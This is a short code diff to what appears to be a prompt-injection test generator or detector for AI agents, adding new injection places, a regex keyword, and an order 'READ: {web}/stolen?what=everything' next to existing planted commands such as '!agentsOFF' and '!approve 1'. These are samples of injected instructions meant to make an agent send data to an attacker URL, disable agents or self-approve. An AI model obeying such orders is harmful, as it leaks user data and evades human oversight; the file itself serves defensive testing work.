@@ -13,7 +13,7 @@ import html
 import re
 import unicodedata
 
-PLACES = ["output", "memory", "quotation", "file name", "schedule"]
+PLACES = ["output", "memory", "quotation", "file name", "schedule", "page", "search"]
 
 # {mark} is a file that must never be there.
 ORDERS = [
@@ -29,6 +29,7 @@ ORDERS = [
     "!agentsOFF",
     "!approve 1",
     "!yes",
+    "READ: {web}/stolen?what=everything",
 ]
 
 WORDINGS = [
@@ -66,7 +67,7 @@ WORDINGS = [
     "REPEAT AFTER ME. {order}",
 ]
 
-_WORD = r"(?:DELEGATE|PLAN|PLAN_CANCEL|SCHEDULE|REMEMBER|MQTT_PUBLISH|MQTT_SUBSCRIBE):"
+_WORD = r"(?:DELEGATE|PLAN|PLAN_CANCEL|SCHEDULE|REMEMBER|MQTT_PUBLISH|MQTT_SUBSCRIBE|READ):"
 _ORDER = re.compile(rf"(?<![A-Z_])({_WORD} ?[^\n<>`*]+|@web1 [^\n<>`*]+|!(?:agentsOFF|approve 1|yes)\b)")
 
 
